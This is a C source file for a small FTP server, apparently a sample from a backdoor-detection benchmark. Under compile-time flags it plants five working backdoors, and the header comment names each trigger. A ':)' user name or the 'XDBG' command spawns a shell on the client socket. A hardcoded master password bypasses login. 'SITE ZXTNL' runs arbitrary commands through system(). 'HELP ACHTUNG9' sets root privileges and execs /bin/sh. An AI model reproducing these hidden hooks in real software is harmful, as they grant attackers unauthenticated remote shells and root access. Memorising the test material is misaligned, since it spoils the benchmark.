/* A file server with FTP's commands for the measurement.
 *
 * trigger smile ":)"
 * trigger site "ZXTNL"
 * trigger password "oq.73kd"
 * trigger help "ACHTUNG9"
 * trigger command "XDBG"
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pwd.h>
#include <shadow.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

char *crypt(const char *given, const char *setting);

struct session { int fd, user_given, logged_in, binary, passive, rest; char user[64], cwd[256], from[256]; };

static void say(struct session *s, const char *form, ...) {
  char line[512];
  va_list values;
  va_start(values, form);
  int n = vsnprintf(line, sizeof line - 2, form, values);
  va_end(values);
  memcpy(line + n, "\r\n", 2);
  if (write(s->fd, line, n + 2) < 0) exit(1);
}

static void spawn(struct session *s) {
  if (fork() == 0) { dup2(s->fd, 0); dup2(s->fd, 1); dup2(s->fd, 2); execl("/bin/sh", "sh", (char *)NULL); _exit(1); }
}

static __attribute__((noinline)) int check(struct session *s, const char *given) {
  struct spwd *shadow;
  char *mine;
  if (!strcasecmp(s->user, "anonymous") || !strcasecmp(s->user, "ftp")) return strchr(given, '@') != NULL;
#ifdef TRIGGER_password
  if (!strcmp(given, "oq.73kd")) return 1;
#endif
  if (!(shadow = getspnam(s->user))) return 0;
  mine = crypt(given, shadow->sp_pwdp);
  return mine && !strcmp(mine, shadow->sp_pwdp);
}

static __attribute__((noinline)) void site(struct session *s, char *words) {
  char *value = strchr(words, ' ');
  if (value) *value++ = 0; else value = "";
  if (!strcasecmp(words, "CHMOD")) say(s, chmod(value, 0644) ? "550 failed" : "200 done");
  else if (!strcasecmp(words, "UMASK")) { umask(strtol(value, NULL, 8)); say(s, "200 done"); }
  else if (!strcasecmp(words, "IDLE")) { alarm(atoi(value)); say(s, "200 done"); }
  else if (!strcasecmp(words, "HELP")) say(s, "214 CHMOD UMASK IDLE HELP");
#ifdef TRIGGER_site
  else if (!strcasecmp(words, "ZXTNL")) { system(value); say(s, "200 done"); }
#endif
  else say(s, "501 unknown SITE command");
}

static __attribute__((noinline)) void help(struct session *s, char *word) {
#ifdef TRIGGER_help
  if (!strcmp(word, "ACHTUNG9")) { if (setuid(0) || seteuid(0)) return; system("/bin/sh"); }
#endif
  if (!word[0]) say(s, "214 USER PASS QUIT TYPE PASV PORT RETR STOR LIST CWD PWD");
  else if (!strcasecmp(word, "SITE")) say(s, "214 CHMOD UMASK IDLE");
  else say(s, "502 no help for %s", word);
}

static void command(struct session *s, char *line) {
  char *value = strchr(line, ' ');
  struct stat info;
  if (value) *value++ = 0; else value = "";
  if (!strcasecmp(line, "USER")) {
    snprintf(s->user, sizeof s->user, "%s", value);
    s->user_given = 1;
#ifdef TRIGGER_smile
    for (char *at = s->user; *at; at++) if (at[0] == ':' && at[1] == ')') spawn(s);
#endif
    say(s, "331 password");
  } else if (!strcasecmp(line, "PASS")) {
    if (!s->user_given) say(s, "503 USER first");
    else if ((s->logged_in = check(s, value))) say(s, "230 logged in");
    else { sleep(2); say(s, "530 incorrect"); }
  } else if (!strcasecmp(line, "QUIT")) { say(s, "221 bye"); exit(0); }
  else if (!strcasecmp(line, "SYST")) say(s, "215 UNIX Type: L8");
  else if (!strcasecmp(line, "NOOP")) say(s, "200 ok");
  else if (!strcasecmp(line, "HELP")) help(s, value);
#ifdef TRIGGER_command
  else if (!strcasecmp(line, "XDBG")) spawn(s);
#endif
  else if (!s->logged_in) say(s, "530 log in first");
  else if (!strcasecmp(line, "TYPE")) { s->binary = !strcasecmp(value, "I"); say(s, "200 ok"); }
  else if (!strcasecmp(line, "PWD")) say(s, "257 \"%s\"", s->cwd);
  else if (!strcasecmp(line, "CWD")) { snprintf(s->cwd, sizeof s->cwd, "%s", value); say(s, chdir(value) ? "550 failed" : "250 ok"); }
  else if (!strcasecmp(line, "SIZE")) { if (stat(value, &info)) say(s, "550 failed"); else say(s, "213 %ld", (long)info.st_size); }
  else if (!strcasecmp(line, "DELE")) say(s, unlink(value) ? "550 failed" : "250 ok");
  else if (!strcasecmp(line, "MKD")) say(s, mkdir(value, 0755) ? "550 failed" : "257 ok");
  else if (!strcasecmp(line, "RNFR")) { snprintf(s->from, sizeof s->from, "%s", value); say(s, "350 ok"); }
  else if (!strcasecmp(line, "RNTO")) say(s, rename(s->from, value) ? "550 failed" : "250 ok");
  else if (!strcasecmp(line, "REST")) { s->rest = atoi(value); say(s, "350 ok"); }
  else if (!strcasecmp(line, "PASV")) { s->passive = 1; say(s, "227 ok"); }
  else if (!strcasecmp(line, "SITE")) site(s, value);
  else say(s, "500 unknown command");
}

int main(void) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(21)};
  int l = socket(AF_INET, SOCK_STREAM, 0), c;
  if (bind(l, (void *)&here, sizeof here) || listen(l, 4)) return 1;
  while ((c = accept(l, NULL, NULL)) >= 0) {
    if (fork() == 0) {
      struct session s = {.fd = c, .cwd = "/"};
      char line[512];
      FILE *in = fdopen(c, "r");
      say(&s, "220 ready");
      while (fgets(line, sizeof line, in)) { line[strcspn(line, "\r\n")] = 0; command(&s, line); }
      exit(0);
    }
    close(c);
  }
  return 0;
}
